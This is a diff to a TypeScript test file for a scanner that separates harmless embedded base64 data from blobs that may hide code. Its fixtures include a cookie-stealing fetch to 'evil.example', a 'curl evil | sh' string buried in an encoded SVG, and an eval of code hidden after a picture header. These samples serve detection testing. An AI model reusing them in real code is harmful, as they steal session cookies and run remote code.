@@ -1,7 +1,9 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { withoutData } from '../../../src/steps/diff/data-runs';
+import { withoutData, withoutRuns } from '../../../src/steps/diff/data-runs';
+import { handedOn } from '../../../src/steps/diff/handed-on';
 import { NO_USES, usesOf } from '../../../src/steps/diff/known-data';
+import { wholePicture } from '../../fakes/whole-picture';
 
 /** Bytes that look random and are the same in every run. */
 function bytes(count: number, start = ''): Buffer {
@@ -11,7 +13,7 @@ function bytes(count: number, start = ''): Buffer {
   return Buffer.concat([Buffer.from(start, 'hex'), ...blocks]).subarray(0, count);
 }
 
-const PNG = bytes(1800, '89504e470d0a1a0a0000000d49484452').toString('base64');
+const PNG = wholePicture(1800).toString('base64');
 const CODE = 'fetch("https://evil.example/?" + document.cookie); ';
 
 const LOADED = Buffer.concat([Buffer.from('run();/*'), bytes(1600), Buffer.from('*/')]).toString('base64');
@@ -23,7 +25,10 @@ const MAP = JSON.stringify({ version: 3, sources: ['a.ts'], mappings: 'AAAA,'.re
 const OUTLINE = `M${'305.8 81.125C-.77,80.995 '.repeat(90)}Z`;
 
 const readIn = (isForShow: boolean, line: string, file = '', otherFile = '') =>
-  withoutData(line, { uses: () => usesOf([line, file]), usesElsewhere: usesOf([otherFile]), isForShow });
+  withoutData(line, {
+    ...{ uses: () => usesOf([line, file]), usesElsewhere: usesOf([otherFile]), isForShow },
+    isHandedOn: handedOn([line, file].map(withoutRuns)),
+  });
 const read = (line: string, file = '', otherFile = '') => readIn(false, line, file, otherFile);
 
 describe('what is known to be data is taken out of a line', () => {
@@ -33,7 +38,7 @@ describe('what is known to be data is taken out of a line', () => {
     'a picture in an address': `  background: url(data:image/png;base64,${PNG});`,
     'a picture in a literal': `const logo = "${PNG}";`,
     'a picture in a literal of a literal': `{"code":"href=\\"${PNG}\\""}`,
-    'a font': `src: url(data:font/woff2;base64,${bytes(2000, '774f463200010000').toString('base64')}) format("woff2")`,
+    'a font': `src: url(data:font/woff2;base64,${bytes(2000, '774f463200010000000007d0').toString('base64')}) format("woff2")`,
     'a picture drawn in text': `url("data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}")`,
     'a source map': `//# sourceMappingURL=data:application/json;base64,${Buffer.from(MAP).toString('base64')}`,
     'a certificate, unquoted': `  caBundle: ${Buffer.from(certificate).toString('base64')}`,
@@ -84,6 +89,9 @@ describe('what may be code is told as not read', () => {
     'a page in an address': `open("data:text/html;base64,${Buffer.from(`<script>${CODE.repeat(40)}</script>`).toString('base64')}")`,
     'a drawing with a script': `url("data:image/svg+xml;base64,${Buffer.from(`<svg><script>${CODE.repeat(40)}</script></svg>`).toString('base64')}")`,
     'code behind the beginning of a picture': `const s = "${Buffer.concat([bytes(300, '89504e470d0a1a0a'), Buffer.from(CODE.repeat(40))]).toString('base64')}";`,
+    'bytes behind the end of a picture': `const s = "data:image/png;base64,${Buffer.concat([wholePicture(1800), bytes(90)]).toString('base64')}";`,
+    'a picture that holds much beside its points': `const s = "${wholePicture(9_000, 'zTXt').toString('base64')}";`,
+    'a picture that has no end': `const s = "${wholePicture(1800).subarray(0, 1800).toString('base64')}";`,
     'a picture that is run': `const s = "${PNG}"; eval(atob(s).slice(30))`,
     'a map of sources that no tool looks for': `exports.blob = "${Buffer.from(MAP).toString('base64')}";`,
     'a drawing in a literal': `logo := "${Buffer.from(`<svg><desc>${'a'.repeat(1500)} ; curl evil | sh</desc></svg>`).toString('base64')}"`,
@@ -154,6 +162,42 @@ describe('what may be code is told as not read', () => {
     }
   });
 
+  it('a picture that its file hands on, whatever to', () => {
+    const line = `const logo = "data:image/png;base64,${PNG}";`;
+    const uses = {
+      apart: [
+        'run(points(logo));',
+        'logo.slice(22)',
+        'const copy = logo;',
+        'logo[i]',
+        'read({ of: logo });',
+        'import(logo)',
+      ],
+      shown: [
+        '<img src={logo} alt="" />',
+        'image.src = logo;',
+        'export { logo };',
+        `url(\${logo})`,
+        'expect(x).toBe(logo)',
+      ],
+    };
+    for (const use of uses.apart) assert.ok(read(line, use).unknown > 1000, use);
+    for (const use of uses.shown) assert.equal(read(line, use).unknown, 0, use);
+    assert.ok(read(`points("${PNG}")`).unknown > 1000);
+  });
+
+  it('a picture whose points its file reads', () => {
+    const line = `<img src="data:image/png;base64,${PNG}">`;
+    assert.equal(read(line, 'draw(x);', 'context.getImageData(0, 0, 9, 9)').unknown, 0);
+    assert.ok(read(line, 'context.getImageData(0, 0, 9, 9)').unknown > 1000);
+  });
+
+  it('a picture outside of an address, where anything decodes a text', () => {
+    const line = `const logo = "${PNG}";`;
+    for (const found of [read(line, 'atob(x)'), read(line, '', 'atob(x)')]) assert.ok(found.unknown > 1000);
+    assert.equal(read(`    "image/png": "${PNG}",`, '', 'atob(x)').unknown, 0);
+  });
+
   it('a picture in an address where a text is run, once something decodes it', () => {
     const line = `const logo = "data:image/png;base64,${PNG}";`;
     assert.equal(read(line, 'eval(input);').unknown, 0);
@@ -163,7 +207,7 @@ describe('what may be code is told as not read', () => {
   it('but no picture beside what people write in any file', () => {
     const line = `const logo = "${PNG}";`;
     const usual =
-      "const m = /x/.exec(s); await import('./a'); el.innerHTML = s; setTimeout(resolve, 5); save(logo, 'base64');";
+      "const m = /x/.exec(s); await import('./a'); el.innerHTML = s; setTimeout(resolve, 5); show({ icon: logo });";
     for (const found of [read(line, usual), read(line, '', usual)]) assert.equal(found.unknown, 0);
   });
 
